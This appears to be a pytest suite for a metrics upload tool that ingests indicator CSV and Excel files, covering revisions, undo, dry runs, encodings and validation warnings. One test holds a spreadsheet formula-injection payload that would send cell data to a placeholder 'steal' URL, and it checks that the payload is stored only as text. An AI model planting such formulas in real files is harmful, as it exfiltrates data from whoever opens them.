"""Good uploads, as upload-format.md describes them: committed counts, the report, dry runs, revisions,
undo, the tolerated spellings (with warnings), missing-value symbols, encodings, line numbers, notes kept
as text, action status files and Excel workbooks."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from metrics.catalogue import Catalogue, default_catalogue
from metrics.dashboard import plan, show
from metrics.revisions import revision_history
from metrics.upload import ingest_bytes, upload_values
from metrics.upload.check import check
from tests.stores import open_store, query

HEADER = "indicator_id,period,geography,value,numerator,denominator,breakdown_dimension,breakdown_value,status,note\n"
REPORT_KEYS = {"status", "upload_id", "rows", "inserted", "revised", "unchanged", "errors", "warnings"}
pytestmark = pytest.mark.both_engines  # every test here that uses a store runs on each engine
PROBLEM_KEYS = {"line", "column", "value", "message"}
JOBS = "jobs_created_wmca_investment"  # count, cumulative, financial quarters, no breakdowns
BIRMINGHAM = "E08000025"


def ingest(run, path, db, *extra: str) -> tuple[int, dict]:
    """`ingest FILE --json --db DB` through `run` (the real `kpi`, or the same command in this process)."""
    code, out, err = run("ingest", path, "--json", "--db", db, *extra)
    assert "Traceback" not in err, err
    return code, json.loads(out)


def rows(db, sql: str, params: list | None = None) -> list[tuple]:
    with open_store(db, read_only=True) as con:
        return query(con, sql, params or [])


def current(db, indicator: str, geography: str, period: str, dim: str = "", group: str = "") -> tuple | None:
    """The current (value, numerator, denominator, missing, status, note) of one key, from the store."""
    found = rows(
        db,
        "SELECT o.value, o.numerator, o.denominator, o.missing, o.status, o.note FROM observation o "
        "JOIN upload u ON u.id = o.upload_id WHERE u.outcome = 'committed' AND o.indicator_id = ? "
        "AND o.geography_code = ? AND o.period = ? AND o.breakdown_dimension = ? AND o.breakdown_value = ? "
        "ORDER BY o.upload_id DESC LIMIT 1",
        [indicator, geography, period, dim, group],
    )
    return found[0] if found else None


def test_a_clean_file_is_committed_with_the_report_of_the_contract(empty_store, kpi, write_csv):
    text = (
        HEADER
        + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,final,\n"
        + f"{JOBS},2023-24 Q1,E08000026,40,,,,,,\n"
        + "affordable_housing_share_scf,2023-24 Q1,birmingham city council,,120,500,project,Scheme A,,\n"
    )
    f = write_csv(text, "q1.csv")
    code, report = ingest(kpi, f, empty_store, "--user", "A Analyst")

    assert code == 0
    assert set(report) == REPORT_KEYS
    assert report == {
        "status": "committed",
        "upload_id": report["upload_id"],
        "rows": 3,
        "inserted": 3,
        "revised": 0,
        "unchanged": 0,
        "errors": [],
        "warnings": [],
    }
    assert isinstance(report["upload_id"], int)

    code, out, _ = kpi("uploads", "--json", "--db", empty_store)
    assert code == 0
    up = json.loads(out)["uploads"][0]
    assert up["id"] == report["upload_id"]
    assert up["file_name"] == "q1.csv"
    assert up["sha256"] == hashlib.sha256(f.read_bytes()).hexdigest()
    assert up["user_name"] == "A Analyst"
    assert up["uploaded_at"].startswith("2026-11-26 09:00:00")
    assert (up["rows"], up["inserted"], up["revised"], up["unchanged"], up["outcome"]) == (
        3,
        3,
        0,
        0,
        "committed",
    )

    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[:5] == (120.0, None, None, None, "final")
    assert current(empty_store, JOBS, "E08000026", "2023-24 Q1")[4] == "provisional"  # the default
    share = current(
        empty_store, "affordable_housing_share_scf", BIRMINGHAM, "2023-24 Q1", "project", "Scheme A"
    )
    assert share[:3] == (24.0, 120.0, 500.0)  # value worked out from numerator and denominator
    # Every observation keeps the upload that brought it and the line it came from.
    lines = rows(empty_store, "SELECT line, upload_id FROM observation ORDER BY line")
    assert lines == [(2, report["upload_id"]), (3, report["upload_id"]), (4, report["upload_id"])]


def test_ingest_bytes_gives_the_same_report_as_the_command(empty_store):
    text = HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n{JOBS},2023-24 Q2,Birmingham,130,,,,,,\n"
    report = ingest_bytes(text.encode(), "q.csv", db=empty_store, user="tester")
    assert report.status == "committed" and report.exit_code == 0
    assert set(report.as_json()) == REPORT_KEYS
    assert (report.rows, report.inserted, report.revised, report.unchanged) == (2, 2, 0, 0)
    again = ingest_bytes(text.encode(), "q.csv", db=empty_store, user="tester")
    assert (again.inserted, again.revised, again.unchanged) == (0, 0, 2)
    assert again.status == "committed" and again.upload_id == report.upload_id + 1


def test_a_dry_run_reports_what_would_change_and_writes_nothing(sample_store, kpi, write_csv, dump_store):
    text = (
        HEADER
        + f"{JOBS},2022-23 Q1,Birmingham,1,,,,,,\n"  # revises a sample value
        + f"{JOBS},2026-27 Q3,Birmingham,140,,,,,,\n"  # new
    )
    sample_value = current(sample_store, JOBS, BIRMINGHAM, "2022-23 Q1")
    unchanged = f"{JOBS},2022-23 Q2,Birmingham,{current(sample_store, JOBS, BIRMINGHAM, '2022-23 Q2')[0]:g},,,,,final,\n"
    f = write_csv(text + unchanged)
    before = dump_store(sample_store)

    code, report = ingest(kpi, f, sample_store, "--dry-run")

    assert code == 0
    assert report["status"] == "dry_run"
    assert report["upload_id"] is None
    assert (report["rows"], report["inserted"], report["revised"], report["unchanged"]) == (3, 1, 1, 1)
    assert dump_store(sample_store) == before
    assert current(sample_store, JOBS, BIRMINGHAM, "2022-23 Q1") == sample_value


def test_a_revision_keeps_the_old_value_in_the_history(empty_store, cli, write_csv):
    first = write_csv(
        HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n{JOBS},2023-24 Q1,Coventry,40,,,,,,\n", "a.csv"
    )
    second = write_csv(
        HEADER + f"{JOBS},2023-24 Q1,Birmingham,125,,,,,,\n{JOBS},2023-24 Q1,Coventry,40,,,,,,\n", "b.csv"
    )
    _, a = ingest(cli, first, empty_store)
    code, b = ingest(cli, second, empty_store)

    assert code == 0
    assert (b["inserted"], b["revised"], b["unchanged"]) == (0, 1, 1)
    assert b["warnings"] == []  # a provisional value changed: no warning
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 125.0

    cat = default_catalogue()
    history = revision_history(cat.indicator(JOBS), cat.geography(BIRMINGHAM), db=empty_store)
    assert history[["value", "upload_id", "file_name"]].values.tolist() == [
        [120.0, a["upload_id"], "a.csv"],
        [125.0, b["upload_id"], "b.csv"],
    ]
    # The unchanged Coventry row is kept as the second upload's confirmation of the first one's value.
    coventry = revision_history(cat.indicator(JOBS), cat.geography("E08000026"), db=empty_store)
    assert coventry[["value", "upload_id", "confirms"]].values.tolist() == [
        [40.0, a["upload_id"], False],
        [40.0, b["upload_id"], True],
    ]


def test_a_status_change_alone_is_a_revision(empty_store, write_csv, cli):
    _, a = ingest(cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n", "a.csv"), empty_store)
    _, b = ingest(
        cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,final,\n", "b.csv"), empty_store
    )
    assert (b["inserted"], b["revised"], b["unchanged"]) == (0, 1, 0)
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[4] == "final"


def test_changing_a_final_value_is_allowed_with_a_warning(empty_store, cli, write_csv):
    ingest(cli, write_csv(HEADER + f"\n{JOBS},2023-24 Q1,Birmingham,120,,,,,final,\n", "a.csv"), empty_store)
    code, report = ingest(
        cli,
        write_csv(
            HEADER + f"{JOBS},2023-24 Q2,Birmingham,1,,,,,,\n{JOBS},2023-24 Q1,Birmingham,121,,,,,final,\n",
            "b.csv",
        ),
        empty_store,
    )
    assert code == 0 and report["status"] == "committed"
    assert report["revised"] == 1
    assert len(report["warnings"]) == 1
    warning = report["warnings"][0]
    assert set(warning) == PROBLEM_KEYS
    assert (warning["line"], warning["column"]) == (3, "value")
    assert "final" in warning["message"] and "history" in warning["message"]
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 121.0


# ------------------------------------------------------------------ undo


def test_undo_falls_back_to_the_latest_value_not_withdrawn(empty_store, cli, write_csv):
    def up(value: int, name: str) -> int:
        code, report = ingest(
            cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,{value},,,,,,\n", name), empty_store
        )
        assert code == 0
        return report["upload_id"]

    a, b, c = up(10, "a.csv"), up(20, "b.csv"), up(30, "c.csv")

    code, out, err = cli("undo", str(b), "--db", empty_store, "--user", "Reviewer")
    assert code == 0, err
    assert f"Upload {b}" in out and "undone" in out
    # A later upload revised the same key: its value stays current.
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 30.0

    assert cli("undo", str(c), "--db", empty_store)[0] == 0
    # Both later values withdrawn: back to the first upload's.
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 10.0

    assert cli("undo", str(a), "--db", empty_store)[0] == 0
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1") is None
    shown = show(JOBS, "Birmingham", db=empty_store)
    assert shown.series == []

    uploads = {u["id"]: u for u in json.loads(cli("uploads", "--json", "--db", empty_store)[1])["uploads"]}
    assert uploads[b]["outcome"] == "undone"
    assert uploads[b]["undone_by"] == "Reviewer"
    assert uploads[b]["undone_at"].startswith("2026-11-26 09:00:00")
    # Nothing is deleted: every value stays in the history.
    assert len(rows(empty_store, "SELECT * FROM observation")) == 3


def test_undo_never_withdraws_a_value_a_later_upload_repeated(empty_store, cli, write_csv):
    """Upload A brings 10 (with a note); upload B repeats 10 unchanged; undoing A keeps 10, because
    B still carries it. Undoing B as well withdraws it."""
    code, a = ingest(
        cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,10,,,,,final,Audited\n", "a.csv"), empty_store
    )
    assert code == 0
    code, b = ingest(
        cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,10,,,,,final,\n", "b.csv"), empty_store
    )
    assert code == 0 and (b["inserted"], b["revised"], b["unchanged"]) == (0, 0, 1)

    assert cli("undo", str(a["upload_id"]), "--db", empty_store)[0] == 0
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1") == (
        10.0,
        None,
        None,
        None,
        "final",
        "Audited",
    )
    assert [(p.period, p.value) for p in show(JOBS, "Birmingham", db=empty_store).series] == [
        ("2023-24 Q1", 10.0)
    ]

    assert cli("undo", str(b["upload_id"]), "--db", empty_store)[0] == 0
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1") is None


def test_undo_never_withdraws_an_action_status_a_later_upload_repeated(empty_store, cli, write_csv):
    head = "action_id,period,status,note\n"
    _, a = ingest(cli, write_csv(head + "AH2,2023-24 Q1,at_risk,Review\n", "a.csv"), empty_store)
    _, b = ingest(cli, write_csv(head + "AH2,2023-24 Q1,at_risk,Review\n", "b.csv"), empty_store)
    assert b["unchanged"] == 1
    assert cli("undo", str(a["upload_id"]), "--db", empty_store)[0] == 0
    statuses = rows(
        empty_store,
        "SELECT s.status FROM action_status s JOIN upload u ON u.id = s.upload_id "
        "WHERE u.outcome = 'committed' AND s.action_id = 'AH2'",
    )
    assert statuses == [("at_risk",)]


def test_undo_restores_the_sample_value_a_later_upload_revised(sample_store, cli, write_csv):
    before = current(sample_store, JOBS, BIRMINGHAM, "2023-24 Q1")
    _, report = ingest(cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,999,,,,,,\n"), sample_store)
    assert report["revised"] == 1
    assert current(sample_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 999.0
    assert cli("undo", str(report["upload_id"]), "--db", sample_store)[0] == 0
    assert current(sample_store, JOBS, BIRMINGHAM, "2023-24 Q1") == before


def test_undo_is_refused_for_unknown_rejected_and_undone_uploads(
    empty_store, kpi, cli, write_csv, dump_store
):
    _, good = ingest(cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,1,,,,,,\n", "g.csv"), empty_store)
    _, bad = ingest(cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Brum,1,,,,,,\n", "b.csv"), empty_store)
    assert bad["status"] == "rejected"
    assert cli("undo", str(good["upload_id"]), "--db", empty_store)[0] == 0
    before = dump_store(empty_store)

    for upload_id, words in (
        (999, ("no upload 999", "kpi uploads")),
        (bad["upload_id"], ("was rejected", "nothing to undo")),
        (good["upload_id"], ("already undone", "26 November 2026")),
    ):
        code, out, err = kpi("undo", str(upload_id), "--db", empty_store)
        assert code == 1, (upload_id, out, err)
        for word in words:
            assert word in err, (word, err)
        assert "Traceback" not in err
    assert dump_store(empty_store) == before


# ------------------------------------------------------------------ what the file may look like


def test_thousands_separators_and_percent_signs_are_read_with_warnings(empty_store, cli, write_csv):
    text = (
        HEADER
        + f'{JOBS},2023-24 Q1,Birmingham,"6,000",,,,,,\n'
        + "neet_16_17,2023,Birmingham,23.5%,,,,,,\n"
        + 'affordable_housing_share_scf,2023-24 Q1,Birmingham,,"1,200","5,000",,,,\n'
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 0 and report["inserted"] == 3
    got = [(w["line"], w["column"], w["value"]) for w in report["warnings"]]
    assert got == [
        (2, "value", "6,000"),
        (3, "value", "23.5%"),
        (4, "numerator", "1,200"),
        (4, "denominator", "5,000"),
    ]
    assert "6000" in report["warnings"][0]["message"]
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[0] == 6000.0
    assert current(empty_store, "neet_16_17", BIRMINGHAM, "2023")[0] == 23.5
    assert current(empty_store, "affordable_housing_share_scf", BIRMINGHAM, "2023-24 Q1")[:3] == (
        24.0,
        1200.0,
        5000.0,
    )


def test_a_percent_sign_on_a_count_is_an_error(empty_store, cli, write_csv):
    code, report = ingest(cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,12%,,,,,,\n"), empty_store)
    assert code == 1
    assert [(e["line"], e["column"], e["value"]) for e in report["errors"]] == [(2, "value", "12%")]


@pytest.mark.parametrize(
    ("written", "stored"),
    [("c", "c"), ("x", "x"), ("z", "z"), ("[c]", "c"), ("[x]", "x"), ("[z]", "z"), ("..", "x"), ("C", "c")],
)
def test_missing_value_symbols_are_stored_as_missing_never_zero(written, stored, empty_store, cli, write_csv):
    code, report = ingest(
        cli, write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,{written},,,,,,\n"), empty_store
    )
    assert code == 0 and report["inserted"] == 1
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[:4] == (None, None, None, stored)

    code, out, _ = cli("show", JOBS, "--geography", "Birmingham", "--json", "--db", empty_store)
    assert code == 0
    [point] = json.loads(out)["series"]
    assert point["value"] is None
    assert point["missing"] == stored


def test_a_windows_1252_file_is_read_with_a_warning(empty_store, cli, write_csv):
    text = HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,Caf\u00e9 scheme \u2013 first return\n"
    code, report = ingest(cli, write_csv(text, encoding="cp1252"), empty_store)
    assert code == 0 and report["status"] == "committed"
    [warning] = report["warnings"]
    assert warning["line"] is None and "Windows-1252" in warning["message"] and "UTF-8" in warning["message"]
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[5] == "Caf\u00e9 scheme \u2013 first return"


def test_a_byte_order_mark_and_crlf_line_ends_are_accepted(empty_store, cli, write_csv):
    text = (
        HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n{JOBS},2023-24 Q2,Birmingham,121,,,,,,\n"
    ).replace("\n", "\r\n")
    code, report = ingest(cli, write_csv(b"\xef\xbb\xbf" + text.encode()), empty_store)
    assert code == 0, report
    assert report["warnings"] == []
    assert (report["rows"], report["inserted"]) == (2, 2)
    assert rows(empty_store, "SELECT line FROM observation ORDER BY line") == [(2,), (3,)]


def test_headers_are_matched_case_insensitively_in_any_order(empty_store, cli, write_csv):
    text = " Value ,GEOGRAPHY,Period,Indicator_ID , Status\n120,birmingham,2023-24 q1,jobs_created_wmca_investment,FINAL\n"
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 0, report
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[:5] == (120.0, None, None, None, "final")


def test_other_written_forms_of_a_period_name_the_same_period(empty_store, cli, write_csv):
    # 2023-Q2 is the same three months as 2023-24 Q1 for a financial-quarter indicator: a duplicate.
    text = (
        HEADER
        + f"{JOBS},2023/24 Q2,Birmingham,120,,,,,,\n{JOBS},2023-Q2,Birmingham,121,,,,,,\n{JOBS},2023-24 Q1,Birmingham,1,,,,,,\n"
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 1
    assert [(e["line"], e["column"]) for e in report["errors"]] == [(4, None)]
    assert "repeats line 3" in report["errors"][0]["message"]


def test_blank_lines_are_skipped_but_counted(empty_store, cli, write_csv):
    text = (
        HEADER
        + "\n"
        + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n"
        + ",,,,,,,,,\n\n"
        + f"{JOBS},2023-24 Q2,Brum,1,,,,,,\n"
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 1
    assert report["rows"] == 2
    assert [(e["line"], e["column"]) for e in report["errors"]] == [(6, "geography")]

    good = (
        HEADER
        + "\n\n"
        + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n\n"
        + f"{JOBS},2023-24 Q2,Birmingham,1,,,,,,\n"
    )
    code, report = ingest(cli, write_csv(good, "good.csv"), empty_store)
    assert code == 0 and report["rows"] == 2
    assert rows(empty_store, "SELECT line FROM observation ORDER BY line") == [(4,), (6,)]


def test_a_quoted_note_over_several_lines_keeps_later_line_numbers_right(empty_store, cli, write_csv):
    note = "First line of the note,\nsecond line, with commas\nthird line"
    text = (
        HEADER
        + f'{JOBS},2023-24 Q1,Birmingham,120,,,,,,"{note}"\n'
        + f"{JOBS},2023-24 Q2,Birmingham,n/a,,,,,,\n"
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 1
    assert [(e["line"], e["column"], e["value"]) for e in report["errors"]] == [(5, "value", "n/a")]

    fixed = text.replace("n/a", "130")
    code, report = ingest(cli, write_csv(fixed, "fixed.csv"), empty_store)
    assert code == 0
    assert rows(empty_store, "SELECT line, note FROM observation ORDER BY line") == [(2, note), (5, None)]


def test_a_formula_in_a_note_is_stored_as_text(empty_store, cli, write_csv):
    formula = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'
    text = HEADER + f'{JOBS},2023-24 Q1,Birmingham,120,,,,,,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 0, report
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[5] == formula
    _, _, frame = upload_values(report["upload_id"], db=empty_store)
    assert frame["note"].tolist() == [formula]


def test_an_empty_unnamed_column_is_ignored_with_a_warning(empty_store, cli, write_csv):
    text = (
        "indicator_id,period,geography,value,\n"
        + f"{JOBS},2023-24 Q1,Birmingham,120,\n{JOBS},2023-24 Q2,Birmingham,130,\n"
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 0, report
    assert report["inserted"] == 2
    [warning] = report["warnings"]
    assert (warning["line"], warning["column"]) == (1, None)
    assert "Column 5" in warning["message"] and "ignored" in warning["message"]


def test_breakdowns_are_stored_per_group(empty_store, cli, write_csv):
    text = (
        HEADER
        + "apprenticeship_starts,2023-24,Birmingham,6024,,,,,,\n"
        + "apprenticeship_starts,2023/24,Birmingham,3000,,,Sex,Female,,\n"
        + "apprenticeship_starts,2023-24,Birmingham,3024,,,sex,Male,,\n"
        + "apprenticeship_starts,2023-24,Birmingham,700,,,Age band,16-18,,\n"
    )
    code, report = ingest(cli, write_csv(text), empty_store)
    assert code == 0, report
    assert current(empty_store, "apprenticeship_starts", BIRMINGHAM, "2023-24", "sex", "Female")[0] == 3000.0
    assert (
        current(empty_store, "apprenticeship_starts", BIRMINGHAM, "2023-24", "age_band", "16-18")[0] == 700.0
    )
    assert current(empty_store, "apprenticeship_starts", BIRMINGHAM, "2023-24")[0] == 6024.0


# ------------------------------------------------------------------ action status files


def test_an_action_status_file_is_committed_and_shown_in_the_plan(empty_store, cli, write_csv):
    text = (
        "action_id,period,status,note\n"
        "AH2,2023-24 Q1,on_track,\n"
        "AH2,2023-24 Q2,at_risk,Two schemes below 20%\n"
        'SE14,2022-23 Q2,complete,"7,570 trained"\n'
    )
    code, report = ingest(cli, write_csv(text, "status.csv"), empty_store)
    assert code == 0, report
    assert (report["status"], report["rows"], report["inserted"]) == ("committed", 3, 3)

    code, out, _ = cli("plan", "--json", "--db", empty_store)
    actions = {a["id"]: a for t in json.loads(out)["themes"] for a in t["actions"]}
    assert actions["AH2"]["status"] == "at_risk"  # the latest quarter's
    assert actions["SE14"]["status"] == "complete"
    assert actions["AH1"]["status"] is None

    # A later file revises a quarter; undo brings the earlier status back.
    code, later = ingest(
        cli, write_csv("action_id,period,status\nAH2,2023-24 Q2,off_track\n", "later.csv"), empty_store
    )
    assert (later["revised"], later["inserted"]) == (1, 0)
    assert {a["id"]: a for t in plan(db=empty_store) for a in t["actions"]}["AH2"]["status"] == "off_track"
    assert cli("undo", str(later["upload_id"]), "--db", empty_store)[0] == 0
    assert {a["id"]: a for t in plan(db=empty_store) for a in t["actions"]}["AH2"]["status"] == "at_risk"
    history = rows(
        empty_store,
        "SELECT period, status, upload_id FROM action_status WHERE action_id = 'AH2' ORDER BY upload_id, period",
    )
    assert history == [
        ("2023-24 Q1", "on_track", report["upload_id"]),
        ("2023-24 Q2", "at_risk", report["upload_id"]),
        ("2023-24 Q2", "off_track", later["upload_id"]),
    ]


# ------------------------------------------------------------------ Excel


def _workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, table in sheets.items():
        ws = wb.create_sheet(name)
        for row in table:
            ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_the_first_sheet_of_an_xlsx_workbook_is_read(empty_store, kpi, write_csv):
    formula = '=HYPERLINK("http://example.com","details")'
    data = _workbook(
        {
            "Upload": [
                ["indicator_id", "period", "geography", "value", "status", "note"],
                [JOBS, "2023-24 Q1", "Birmingham", 120, "final", formula],
                [JOBS, "2023-24 Q2", "Birmingham", 130.0, None, None],
                ["neet_16_17", 2023, "Coventry", 2.5, None, None],
            ],
            "Notes": [["this sheet is ignored", "x"], ["not", "a template"]],
        }
    )
    code, report = ingest(kpi, write_csv(data, "upload.xlsx"), empty_store)
    assert code == 0, report
    assert (report["rows"], report["inserted"]) == (3, 3)
    # The second sheet is not read, and the report says so rather than dropping it without a word.
    assert [w["message"] for w in report["warnings"]] == [
        "Only the first sheet, 'Upload', was read. The workbook also has data on 'Notes': if those rows "
        "belong in this upload, move them onto the first sheet or upload them as a file of their own."
    ]
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q1")[::5] == (120.0, formula)
    assert current(empty_store, JOBS, BIRMINGHAM, "2023-24 Q2")[0] == 130.0
    assert current(empty_store, "neet_16_17", "E08000026", "2023")[0] == 2.5


def test_a_workbook_with_data_on_a_second_sheet_names_that_sheet(empty_store, kpi):
    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "second_sheet.xlsx"
    code, report = ingest(kpi, fixture, empty_store)
    assert code == 0, report
    assert report["inserted"] == 1
    assert "'Coventry Q2'" in report["warnings"][0]["message"]
    assert "first sheet, 'Values'" in report["warnings"][0]["message"]


def test_dates_in_a_workbook_are_read_as_excel_shows_them_and_empty_rows_keep_line_numbers(
    empty_store, cli, write_csv
):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["indicator_id", "period", "geography", "value"])
    ws.append([JOBS, dt.date(2023, 6, 30), "Birmingham", 1])
    ws.cell(row=5, column=1, value=JOBS)  # rows 3 and 4 are empty
    ws.cell(row=5, column=2, value="2023-24 Q1")
    ws.cell(row=5, column=3, value="Brum")
    ws.cell(row=5, column=4, value=2)
    out = io.BytesIO()
    wb.save(out)
    code, report = ingest(cli, write_csv(out.getvalue(), "dates.xlsx"), empty_store)
    assert code == 1
    assert [(e["line"], e["column"], e["value"]) for e in report["errors"]] == [
        (2, "period", "2023-06-30"),
        (5, "geography", "Brum"),
    ]


def test_a_bad_row_in_a_workbook_is_reported_on_its_line(empty_store, cli, write_csv):
    data = _workbook(
        {"Sheet1": [["indicator_id", "period", "geography", "value"], [JOBS, "2023-24 Q1", "Brum", 1]]}
    )
    code, report = ingest(cli, write_csv(data, "bad.xlsx"), empty_store)
    assert code == 1
    assert [(e["line"], e["column"], e["value"]) for e in report["errors"]] == [(2, "geography", "Brum")]


def test_the_pinned_clock_decides_what_is_a_future_period(empty_store):
    text = HEADER + f"{JOBS},2026-27 Q3,Birmingham,1,,,,,,\n"  # starts 1 October 2026, before 26 November
    report = ingest_bytes(text.encode(), "q.csv", db=empty_store)
    assert report.status == "committed"
    later = HEADER + f"{JOBS},2026-27 Q4,Birmingham,1,,,,,,\n"  # starts 1 January 2027
    report = ingest_bytes(later.encode(), "q.csv", db=empty_store, now=dt.datetime(2027, 1, 1, 9))
    assert report.status == "committed"
    report = ingest_bytes(
        later.encode(), "q2.csv", db=empty_store, dry_run=True, now=dt.datetime(2026, 12, 31, 9)
    )
    assert report.status == "rejected" and "after today" in report.errors[0].message


@pytest.mark.parametrize(
    ("unit", "written", "words"),
    [
        ("money", "-5", "amount of 0 or more"),
        ("rate_per_100k", "-1", "rate of 0 or more"),
        ("money", "1250.75", None),
    ],
)
def test_unit_checks_for_money_and_rates(unit, written, words):
    # The catalogue has no money indicator yet: the same check is run on a copy declared as one.
    cat = default_catalogue()
    changed = tuple(replace(i, unit=unit) if i.id == JOBS else i for i in cat.indicators)
    catalogue = Catalogue(cat.objective_name, cat.objective_text, cat.themes, changed, cat.geographies)
    report, _ = check(
        (HEADER + f"{JOBS},2023-24 Q1,Birmingham,{written},,,,,,\n").encode(),
        "m.csv",
        catalogue=catalogue,
        today=dt.date(2026, 11, 26),
    )
    if words is None:
        assert report.errors == []
    else:
        assert [(e.line, e.column, e.value) for e in report.errors] == [(2, "value", written)]
        assert words in report.errors[0].message


def test_each_load_and_undo_from_the_command_is_logged_as_one_json_line(empty_store, kpi, write_csv):
    f = write_csv(HEADER + f"{JOBS},2023-24 Q1,Birmingham,120,,,,,,\n", "q1.csv")
    code, out, err = kpi("ingest", f, "--json", "--db", empty_store, "--user", "Scheduler")
    assert code == 0
    (line,) = [json.loads(x) for x in err.splitlines() if x.startswith("{")]
    assert (line["event"], line["outcome"], line["user"], line["file_name"]) == (
        "upload",
        "committed",
        "Scheduler",
        "q1.csv",
    )
    assert "120" not in err  # no uploaded values in the log
    upload_id = json.loads(out)["upload_id"]
    code, _, err = kpi("undo", str(upload_id), "--db", empty_store, "--user", "Reviewer")
    assert code == 0
    (line,) = [json.loads(x) for x in err.splitlines() if x.startswith("{")]
    assert (line["event"], line["outcome"], line["user"], line["upload"]) == (
        "undo",
        "done",
        "Reviewer",
        upload_id,
    )


@pytest.mark.parametrize(
    ("unit", "column", "value", "refused"),
    [
        ("count", "value", 0.0, False),
        ("count", "value", -1.0, True),
        ("count", "value", 2.5, True),
        ("money", "value", 0.0, False),
        ("money", "value", -0.01, True),
        ("percent", "value", 0.0, False),
        ("percent", "value", 100.0, False),
        ("percent", "value", 100.01, True),
        ("percent", "value", -0.01, True),
        ("rate_per_100k", "value", 0.0, False),
        ("rate_per_100k", "value", -0.5, True),
        ("percent", "numerator", 0.0, False),
        ("percent", "denominator", -1.0, True),
        ("percent", "numerator", 1.5, True),
        ("score", "value", 0.0, False),
        ("score", "value", 10.0, False),
        ("score", "value", 10.01, True),
        ("score", "value", -0.01, True),
    ],
)
def test_each_units_bounds_are_inclusive_and_exact(unit, column, value, refused):
    from dataclasses import replace as _replace

    from metrics.upload.values import _unit_problem

    base = default_catalogue().indicator("life_satisfaction")  # a score from 0 to 10
    indicator = _replace(base, unit=unit, value_range=(0.0, 10.0) if unit == "score" else None)
    assert (_unit_problem(indicator, column, value) is not None) is refused


def test_a_share_of_one_in_one_is_a_hundred_per_cent_not_an_error(empty_store):
    """Every home affordable in a one-home scheme: numerator equal to denominator, denominator of one."""
    text = (
        HEADER
        + "affordable_housing_share_scf,2023-24 Q1,Birmingham,,1,1,project,Tiny scheme,,\n"
        + "affordable_housing_share_scf,2023-24 Q1,Coventry,100,40,40,,,,\n"
    )
    report = ingest_bytes(text.encode(), "one.csv", db=empty_store, dry_run=True)
    assert report.status == "dry_run", report.as_json()
    assert report.errors == []
